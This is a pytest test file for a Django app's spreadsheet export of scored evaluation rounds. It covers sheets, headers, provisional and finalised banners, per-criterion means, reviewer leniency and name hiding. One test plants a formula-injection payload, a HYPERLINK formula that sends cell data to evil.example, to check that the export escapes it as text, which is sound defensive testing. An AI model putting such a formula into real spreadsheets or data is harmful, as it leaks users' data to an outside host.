"""The results spreadsheet: its sheets, frozen headers and autofilter, the provisional
mark, the reviewers' sheet for the secretariat only, per-criterion means, safe text."""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext
from openpyxl import load_workbook

from evaluation import selectors, services
from evaluation.exports import results_xlsx
from models_registry.models import DvkModel
from tests.factories import RoundFactory
from tests.factories.evaluation import CriterionFactory, RubricFactory, TierFactory

from .helpers import scored_round

pytestmark = pytest.mark.django_db


def _export(client, user, round_):
    client.force_login(user)
    response = client.get(reverse("evaluation:round_results", args=[round_.pk]), {"format": "xlsx"})
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _two_criteria_round(campaign, secretariat, province):
    """A round whose rubric has two criteria: "Hiệu quả" (60) then "Sáng tạo" (40); a
    sheet's total fills them in order (70 → 60 + 10)."""
    rubric = RubricFactory(organiser=province)
    first = CriterionFactory(rubric=rubric, title="Hiệu quả", max_points=Decimal("60"))
    second = CriterionFactory(rubric=rubric, title="Sáng tạo", max_points=Decimal("40"))
    for position, (name, minimum) in enumerate([("Tốt", 80), ("Khá", 65), ("Đạt", 0)]):
        TierFactory(rubric=rubric, name=name, min_score=Decimal(minimum), position=position)
    round_ = RoundFactory(campaign=campaign, created_by=secretariat, rubric_collective=rubric)
    return round_, first, second


def test_results_xlsx_secretariat_sheets_frozen_headers_and_autofilter(
    client, people, round_, committee
):
    scored_round(round_, committee, [[90, 70], [80, 60]], by=people.secretariat)

    book = _export(client, people.secretariat, round_)

    assert book.sheetnames == [
        gettext("Results"),
        gettext("Criteria (collective)"),
        gettext("Reviewers"),
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A5"
        assert sheet.auto_filter.ref.startswith("A4:")
        assert sheet.cell(row=4, column=1).value == (
            gettext("Reviewer") if sheet.title == gettext("Reviewers") else gettext("Rank")
        )
    results = book[gettext("Results")]
    assert results.auto_filter.ref == "A4:P6"
    assert results.cell(row=4, column=15).value == gettext("Tier by raw score")


def test_results_xlsx_leader_export_has_no_reviewer_sheet_or_name(
    client, people, round_, committee
):
    _entries, members = scored_round(round_, committee, [[90, 70]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)

    book = _export(client, people.leader, round_)

    assert gettext("Reviewers") not in book.sheetnames
    texts = {
        str(value)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if value is not None
    }
    for member in members:
        assert not any(str(member.user) in text for text in texts)


def test_results_xlsx_unfinalised_round_says_provisional_on_every_sheet(
    client, people, round_, committee
):
    scored_round(round_, committee, [[90, 70]], by=people.secretariat)
    client.force_login(people.secretariat)
    prefix = gettext("PROVISIONAL — exported at %(time)s on %(date)s").split("%(time)s")[0]

    book = _export(client, people.secretariat, round_)

    for sheet in book.worksheets:
        assert sheet.cell(row=3, column=1).value.startswith(prefix)


def test_results_xlsx_provisional_line_gives_local_time_and_date(round_, committee, people):
    """``exported_at`` in UTC is written in local time (Asia/Ho_Chi_Minh, UTC+7)."""
    scored_round(round_, committee, [[90, 70]], by=people.secretariat)
    exported_at = datetime.datetime(2026, 12, 1, 7, 5, tzinfo=datetime.UTC)

    _name, _type, content = results_xlsx(
        round=round_,
        rows=selectors.round_results(round=round_),
        policy=selectors.live_policy(round=round_),
        exported_at=exported_at,
    )

    sheet = load_workbook(io.BytesIO(content)).active
    assert timezone.get_current_timezone_name() == "Asia/Ho_Chi_Minh"
    assert sheet.cell(row=3, column=1).value == gettext(
        "PROVISIONAL — exported at %(time)s on %(date)s"
    ) % {"time": "14:05", "date": "01/12/2026"}


def test_results_xlsx_finalised_round_says_when(client, people, round_, committee):
    scored_round(round_, committee, [[90, 70]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    round_.refresh_from_db()
    day = timezone.localtime(round_.finalised_at).strftime("%d/%m/%Y")

    book = _export(client, people.secretariat, round_)

    for sheet in book.worksheets:
        assert sheet.cell(row=3, column=1).value == gettext(
            "Finalised on %(date)s: these results are a frozen snapshot."
        ) % {"date": day}


def test_results_xlsx_per_criterion_means_match_hand_computed(
    client, people, campaign, committee, secretariat, province
):
    """Totals 70 and 50 fill "Hiệu quả" (60) then "Sáng tạo" (40): 60 + 10 and 50 + 0, so
    the means are 55 and 5; totals 100 and 90: 60 + 40 and 60 + 30, means 60 and 35."""
    round_, first, second = _two_criteria_round(campaign, secretariat, province)
    entries, _members = scored_round(round_, committee, [[70, 50], [100, 90]], by=secretariat)

    book = _export(client, people.secretariat, round_)

    sheet = book[gettext("Criteria (collective)")]
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    assert rows[0][4:] == (
        gettext("%(criterion)s (max %(points)s)") % {"criterion": "Hiệu quả", "points": "60"},
        gettext("%(criterion)s (max %(points)s)") % {"criterion": "Sáng tạo", "points": "40"},
    )
    by_model = {row[1]: row for row in rows[1:]}
    assert by_model[entries[1].dvk_model.name][0] == 1
    assert by_model[entries[1].dvk_model.name][4:] == (60.0, 35.0)
    assert by_model[entries[0].dvk_model.name][4:] == (55.0, 5.0)
    assert sheet.cell(row=5, column=5).data_type == "n"
    stats = selectors.criterion_stats(round=round_)
    assert stats[entries[0].pk][first.pk].mean == Decimal("55.00")
    assert stats[entries[0].pk][second.pk].mean == Decimal("5.00")


def test_results_xlsx_reviewer_sheet_gives_leniency_and_few_sheets(
    client, people, round_, committee
):
    _entries, members = scored_round(
        round_, committee, [[90, 70, None], [80, 60, None], [85, 65, 75]], by=people.secretariat
    )
    summary = selectors.calibration_summary(round=round_)
    found = {r.reviewer.pk: r for r in summary.groups[0].reviewers}

    book = _export(client, people.secretariat, round_)

    sheet = book[gettext("Reviewers")]
    header = [cell.value for cell in sheet[4]]
    rows = {row[0]: row for row in sheet.iter_rows(min_row=5, values_only=True) if row[0]}
    column = header.index(gettext("Estimated leniency"))
    for member in members:
        row = rows[str(member.user)]
        leniency = found[member.user.pk]
        assert row[1:3] == (leniency.sheets, leniency.sheets)  # assigned, submitted
        assert row[column] == float(leniency.leniency)
        assert row[column + 1] == float(leniency.uncertainty)
        assert row[column + 2] == leniency.sheets
        assert row[column + 3] == (gettext("Yes") if leniency.few_sheets else None)


def test_results_xlsx_formula_like_model_name_stays_text_on_every_sheet(
    client, people, round_, committee
):
    entries, _ = scored_round(round_, committee, [[88, 80]], by=people.secretariat)
    name = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    DvkModel.objects.filter(pk=entries[0].dvk_model_id).update(name=name)

    book = _export(client, people.secretariat, round_)

    for title in (gettext("Results"), gettext("Criteria (collective)")):
        cell = book[title].cell(row=5, column=2)
        assert cell.data_type == "s"
        assert cell.value == "'" + name
    assert book[gettext("Results")].cell(row=5, column=6).data_type == "n"
